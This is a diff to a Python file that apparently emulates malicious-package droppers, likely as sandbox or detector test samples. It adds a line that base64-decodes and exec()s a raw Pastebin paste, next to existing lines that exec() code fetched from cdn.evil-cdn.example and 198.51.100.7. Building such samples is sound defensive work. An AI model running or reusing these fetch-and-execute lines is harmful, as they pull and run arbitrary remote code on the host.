@@ -1,5 +1,6 @@
 # Second stages in the forms droppers fetch them: base64 text decoded and
-# exec()d in-process (package-test-index's loader), Python exec()d as
+# exec()d in-process (a .b64 name; a paste, as package-test-index's
+# loader does), Python exec()d as
 # fetched (certifo), a .sh written then run, and a program (ELF) written,
 # made executable and run (where the file system lets it: docker's /tmp
 # and /work are noexec).
@@ -11,6 +12,9 @@ def get(url):
 exec(base64.b64decode(get("http://cdn.evil-cdn.example/p/loader.b64")))
 
 exec(get("http://198.51.100.7/s/stage.py"))
+
+# package-test-index's loader: a paste, base64-decoded, then exec()d
+exec(base64.b64decode(get("https://pastebin.com/raw/VvkKsmxr").decode("utf-8")).decode("utf-8"))
 
 def written_and_run(path, url):
     with open(path, "wb") as f:
